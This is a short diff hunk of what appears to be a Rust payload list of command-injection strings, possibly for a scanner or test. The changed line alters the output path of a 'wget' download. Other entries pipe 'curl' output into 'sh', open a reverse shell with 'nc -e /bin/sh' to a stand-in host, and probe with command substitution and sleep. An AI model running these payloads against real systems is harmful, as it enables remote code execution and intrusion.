@@ -53,7 +53,7 @@ const COMMANDS: [&str; 10] = [
     "#`uname -a`",
     "#$(hostname)",
     "#&&ls -la /var/www",
-    "#;wget http://203.0.113.99/s# -O /tmp/s#",
+    "#;wget http://203.0.113.99/s# -O /var/cache/s#",
     "#|curl http://203.0.113.99/p#|sh",
     "#;nc -e /bin/sh 203.0.113.99 #",
     "#;bash -c 'sleep #'",
